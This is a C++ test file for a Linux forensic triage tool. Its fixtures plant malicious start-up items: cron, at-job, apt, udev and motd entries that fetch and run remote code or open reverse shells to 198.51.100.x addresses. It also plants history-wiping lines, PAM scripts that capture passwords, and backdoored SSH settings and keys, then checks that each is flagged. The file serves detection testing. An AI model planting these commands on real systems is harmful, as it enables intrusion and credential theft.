// End-to-end: what start-up items say, planted in a fixture root in every place a program
// starts itself, and found with --since 0 (old files, or forged times) - recency raises a
// finding, it never makes one.
#include <filesystem>
#include <map>

#include <gtest/gtest.h>

#include "e2e/fixture_root.hpp"

using namespace vigil::testing;
namespace fs = std::filesystem;

namespace {

// An at job as atd writes it: the preamble carries the submitter's environment (with /tmp in
// OLDPWD), then the job between here-document markers.
std::string at_job(const std::string& body) {
  return "#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\n"
         "OLDPWD=/tmp; export OLDPWD\nPATH=/usr/bin:/bin; export PATH\n"
         "cd /root || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n"
         "${SHELL:-/bin/sh} << 'marcinDELIMITER5d1e7a2f'\n" +
         body + "\nmarcinDELIMITER5d1e7a2f\n";
}

std::string severity(const std::vector<nlohmann::json>& all, const std::string& rule, const std::string& path) {
  for (const auto& f : findings_of(all, rule))
    if (f.contains("file") && std::string(f["file"]["path"]).ends_with(path)) return f["vigil"]["severity"];
  return "";
}

}  // namespace

TEST(ImageStartupContent, WhatEachItemSaysIsReadWithSinceZero) {
  TempDir d;
  base_root(d);
  d.write("etc/cron.daily/logclean",
          "#!/bin/sh\nfind /var/log -name '*.gz' -mtime +30 -delete\ncurl -s http://198.51.100.9/u | sh\nexit 0\n");
  d.write("var/spool/cron/atjobs/a00001019a1b2c", at_job("bash -i >& /dev/tcp/198.51.100.7/443 0>&1"));
  d.write("etc/systemd/system-generators/net-gen", "#!/bin/sh\nnohup /dev/shm/.k/kworker >/dev/null 2>&1 &\n");
  d.write("etc/systemd/system/upd.path", "[Path]\nPathChanged=/etc/passwd\nUnit=upd.service\n");
  d.write("etc/systemd/system/upd.socket", "[Socket]\nListenStream=4444\nExecStartPre=/usr/bin/ncat -lk 4445\n");
  d.write("etc/NetworkManager/dispatcher.d/99-up",
          "#!/bin/sh\npython3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.7\",53));"
          "os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'\n");
  d.write("etc/apt/apt.conf.d/99update",
          "// refresh\nAPT::Update::Pre-Invoke {\"echo Y3VybCBodHRwOi8vMTk4LjUxLjEwMC45L2kgfCBzaA== | base64 -d | "
          "bash\";};\n");
  d.write("etc/profile.d/zz-local.sh", "export EDITOR=vim\nunset HISTFILE\n");
  d.write("root/.bash_logout", "history -c\n");
  d.write("etc/update-motd.d/99-stats", "#!/bin/sh\nwget -q http://198.51.100.9/m -O /var/tmp/m; chmod +x /var/tmp/m\n");
  d.write("etc/udev/rules.d/99-usb.rules", "ACTION==\"add\", RUN+=\"/bin/sh -c 'echo ZWNobyBoaQ== | base64 -d | sh'\"\n");
  age_files(d, 400);  // older than any window, and --since 0 below
  auto all = triage(d, {"--since", "0"});
  EXPECT_EQ(severity(all, "persistence.download-exec", "/etc/cron.daily/logclean"), "high");
  EXPECT_EQ(severity(all, "persistence.reverse-shell", "/var/spool/cron/atjobs/a00001019a1b2c"), "critical");
  EXPECT_EQ(severity(all, "persistence.temp-path", "/etc/systemd/system-generators/net-gen"), "high");
  EXPECT_EQ(severity(all, "persistence.reverse-shell", "/etc/systemd/system/upd.socket"), "high");
  EXPECT_EQ(severity(all, "persistence.reverse-shell", "/etc/NetworkManager/dispatcher.d/99-up"), "critical");
  EXPECT_EQ(severity(all, "persistence.obfuscated-command", "/etc/apt/apt.conf.d/99update"), "high");
  EXPECT_EQ(severity(all, "evasion.history-disabled", "/etc/profile.d/zz-local.sh"), "medium");
  EXPECT_EQ(severity(all, "evasion.history-disabled", "/root/.bash_logout"), "medium");
  EXPECT_EQ(severity(all, "persistence.download-exec", "/etc/update-motd.d/99-stats"), "high");
  EXPECT_EQ(severity(all, "persistence.obfuscated-command", "/etc/udev/rules.d/99-usb.rules"), "high");
  EXPECT_EQ(severity(all, "persistence.unowned-item", "/etc/systemd/system-generators/net-gen"), "low");
  // The at job's preamble (OLDPWD=/tmp) is the submitter's environment, not the job.
  EXPECT_FALSE(reported(all, "persistence.temp-path", "/var/spool/cron/atjobs/a00001019a1b2c"));
  // The line itself is in the evidence, with its number.
  for (const auto& f : findings_of(all, "persistence.download-exec"))
    if (std::string(f["file"]["path"]).ends_with("/logclean")) {
      EXPECT_EQ(f["file"]["line"], 3);
      EXPECT_EQ(f["process"]["command_line"], "curl -s http://198.51.100.9/u | sh");
    }
  // The inventory keeps the script as one item and its suspicious line as another.
  auto r = run_vigil({"query", "--root", d.path(), "--format", "json",
                      "select line, command from persistence where location = '/etc/cron.daily/logclean' order by line"});
  auto rows = nlohmann::json::parse(r.out);
  ASSERT_EQ(rows.size(), 2u) << r.out;
  EXPECT_EQ(rows[0]["line"], 0);
  EXPECT_EQ(rows[1]["line"], 3);
}

TEST(ImageStartupContent, PackagedScriptAsShippedIsQuietAndEditedIsReported) {
  TempDir d;
  base_root(d);
  // x11-common's script mentions /tmp/.X11-unix; as its package shipped it, that is the package's.
  std::string shipped = "#!/bin/sh\nmkdir -p /tmp/.X11-unix\n/tmp/.X11-unix/helper --check || true\n";
  d.write("etc/init.d/x11-common", shipped);
  d.write("etc/init.d/procps", "#!/bin/sh\nsysctl --system\n");
  d.write("var/lib/dpkg/info/x11-common.list", "/etc/init.d/x11-common\n");
  d.write("var/lib/dpkg/info/procps.list", "/etc/init.d/procps\n");
  d.write("var/lib/dpkg/status",
          "Package: x11-common\nStatus: install ok installed\nConffiles:\n /etc/init.d/x11-common " +
              md5_of(d / "etc/init.d/x11-common") + "\n\nPackage: procps\nStatus: install ok installed\n"
              "Conffiles:\n /etc/init.d/procps " + md5_of(d / "etc/init.d/procps") + "\n\n");
  // An intruder appends a line to a packaged script.
  d.write("etc/init.d/procps", "#!/bin/sh\nsysctl --system\n/bin/sh -c '/dev/shm/.s &'\n");
  age_files(d, 400);
  auto all = triage(d, {"--since", "0"});
  EXPECT_FALSE(reported(all, "persistence.temp-path", "/etc/init.d/x11-common"));
  EXPECT_EQ(severity(all, "persistence.temp-path", "/etc/init.d/procps"), "high");
  for (const auto& f : findings_of(all, "persistence.temp-path"))
    EXPECT_EQ(f["vigil"]["package"]["verify"], "modified") << f.dump();
}

TEST(ImageStartupContent, CleanStartupFilesStayQuiet) {
  TempDir d;
  base_root(d);
  d.write("etc/cron.daily/backup", "#!/bin/sh\ntmp=$(mktemp /tmp/bk.XXXXXX)\ntar czf \"$tmp\" /etc && mv \"$tmp\" "
                                   "/var/backups/etc.tgz\nfind /tmp -name 'bk.*' -mtime +1 -delete\n");
  d.write("etc/profile.d/local.sh", "HISTCONTROL=ignoreboth\nHISTSIZE=1000\nexport PATH=$PATH:/opt/bin\n");
  d.write("etc/apt/apt.conf.d/docker-clean",
          "DPkg::Post-Invoke { \"rm -f /var/cache/apt/archives/*.deb /var/cache/apt/*.bin || true\"; };\n"
          "APT::Update::Post-Invoke { \"rm -f /var/cache/apt/archives/*.deb || true\"; };\n");
  d.write("var/spool/cron/atjobs/a0000201a1b2c3", at_job("/usr/sbin/logrotate -f /etc/logrotate.conf"));
  d.write("var/lib/dpkg/info/local-config.list", "/etc/cron.daily/backup\n/etc/profile.d/local.sh\n"
                                                 "/etc/apt/apt.conf.d/docker-clean\n");
  age_files(d, 400);
  for (const auto& f : triage(d, {"--since", "0"})) {
    if (f["rule"]["id"] == "persistence.unowned-item") {  // the at job: no package owns one
      EXPECT_EQ(f["vigil"]["severity"], "low");
      continue;
    }
    EXPECT_EQ(f["vigil"]["severity"], "info") << f.dump();
  }
}

TEST(ImageStartupContent, PamExecAndPamScriptProgramsAndModifiedModules) {
  TempDir d;
  base_root(d);
  d.write("etc/pam.d/sshd",
          "@include common-auth\nauth optional pam_exec.so quiet expose_authtok /usr/local/sbin/auth-log --all\n"
          "session optional pam_exec.so seteuid /usr/bin/logger -t login\n"
          "auth optional pam_script.so dir=/etc/security/scripts\n");
  d.write("usr/local/sbin/auth-log", "#!/bin/sh\ncat >> /var/tmp/.p\n");
  d.write("usr/bin/logger", "packaged\n");
  d.write("etc/security/scripts/pam_script_auth", "#!/bin/sh\necho \"$PAM_USER:$PAM_AUTHTOK\" >> /dev/shm/.k\n");
  d.write("var/lib/dpkg/info/bsdutils.list", "/usr/bin/logger\n");
  // pam_unix.so as its package recorded it, then replaced (the master-password backdoor).
  d.write("usr/lib/x86_64-linux-gnu/security/pam_unix.so", "the real module\n");
  d.write("var/lib/dpkg/info/libpam-modules.list", "/usr/lib/x86_64-linux-gnu/security/pam_unix.so\n");
  d.write("var/lib/dpkg/info/libpam-modules.md5sums",
          md5_of(d / "usr/lib/x86_64-linux-gnu/security/pam_unix.so") + "  usr/lib/x86_64-linux-gnu/security/pam_unix.so\n");
  d.write("usr/lib/x86_64-linux-gnu/security/pam_unix.so", "a module that accepts a master password\n");
  age_files(d, 400);
  auto all = triage(d, {"--since", "0"});
  std::map<std::string, std::string> pam_exec;  // program -> severity
  for (const auto& f : findings_of(all, "persistence.pam-exec"))
    pam_exec[f["process"]["command_line"]] = f["vigil"]["severity"];
  EXPECT_EQ(pam_exec["/usr/local/sbin/auth-log --all"], "high") << "unpackaged, and handed the password";
  EXPECT_EQ(pam_exec["/etc/security/scripts/pam_script_auth"], "high");
  EXPECT_FALSE(pam_exec.contains("/usr/bin/logger -t login")) << "a packaged program without the password";
  EXPECT_TRUE(reported(all, "files.package-modified", "/security/pam_unix.so"));
  // The module's arguments are kept in the inventory.
  auto r = run_vigil({"query", "--root", d.path(), "--format", "json",
                      "select options from persistence where kind = 'pam-module' and line = 2"});
  auto rows = nlohmann::json::parse(r.out);
  ASSERT_EQ(rows.size(), 1u) << r.out;
  EXPECT_EQ(rows[0]["options"], "quiet expose_authtok /usr/local/sbin/auth-log --all");
}

namespace {
// Debian 12's sshd_config as installed (comments left out).
constexpr const char* kDebianSshdConfig =
    "Include /etc/ssh/sshd_config.d/*.conf\nKbdInteractiveAuthentication no\nUsePAM yes\nX11Forwarding yes\n"
    "PrintMotd no\nAcceptEnv LANG LC_*\nSubsystem\tsftp\t/usr/lib/openssh/sftp-server\n";
}  // namespace

TEST(ImageSsh, SettingsKeysElsewhereAndLoginCommands) {
  TempDir d;
  base_root(d);
  d.write("etc/ssh/sshd_config", kDebianSshdConfig);
  d.write("etc/ssh/sshd_config.d/10-local.conf",
          "AuthorizedKeysFile .ssh/authorized_keys /var/tmp/.k/%u\nPermitEmptyPasswords yes\n"
          "AuthorizedKeysCommand /usr/local/bin/keys %u\nAuthorizedKeysCommandUser nobody\n"
          "Match Address 198.51.100.7\n  PermitRootLogin yes\n");
  d.write("var/tmp/.k/root", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPlanted planted@attacker\n");
  d.write("usr/local/bin/keys", "#!/bin/sh\necho 'ssh-ed25519 AAAAC3Nza any'\n");
  age_files(d, 400);
  auto all = triage(d, {"--since", "0"});
  std::map<std::string, std::string> settings;  // setting -> severity
  for (const auto& f : findings_of(all, "ssh.risky-setting"))
    settings[f["vigil"]["ssh"]["setting"]] = f["vigil"]["severity"];
  EXPECT_EQ(settings["permitemptypasswords yes"], "high");
  EXPECT_EQ(settings["permitrootlogin yes"], "medium") << "granted only inside a Match block";
  auto elsewhere = findings_of(all, "ssh.authorized-keys-elsewhere");
  ASSERT_EQ(elsewhere.size(), 1u);
  EXPECT_EQ(elsewhere[0]["file"]["path"], "/var/tmp/.k/root");
  EXPECT_EQ(elsewhere[0]["vigil"]["severity"], "high");
  auto command = findings_of(all, "ssh.login-command");
  ASSERT_EQ(command.size(), 1u);
  EXPECT_EQ(command[0]["process"]["command_line"], "/usr/local/bin/keys %u");
  EXPECT_EQ(command[0]["vigil"]["severity"], "high");
  // The table keeps the Match block each setting is in.
  auto r = run_vigil({"query", "--root", d.path(), "--format", "json",
                      "select file, line, match from sshd_config where keyword = 'permitrootlogin'"});
  auto rows = nlohmann::json::parse(r.out);
  ASSERT_EQ(rows.size(), 1u) << r.out;
  EXPECT_EQ(rows[0]["file"], "/etc/ssh/sshd_config.d/10-local.conf");
  EXPECT_EQ(rows[0]["line"], 6);
  EXPECT_EQ(rows[0]["match"], "Address 198.51.100.7");
}

TEST(ImageSsh, DebianDefaultConfigIsQuiet) {
  TempDir d;
  base_root(d);
  d.write("etc/ssh/sshd_config", kDebianSshdConfig);
  fs::create_directories(d / "etc/ssh/sshd_config.d");
  age_files(d, 400);
  for (const auto& f : triage(d, {"--since", "0"})) EXPECT_EQ(f["vigil"]["severity"], "info") << f.dump();
}
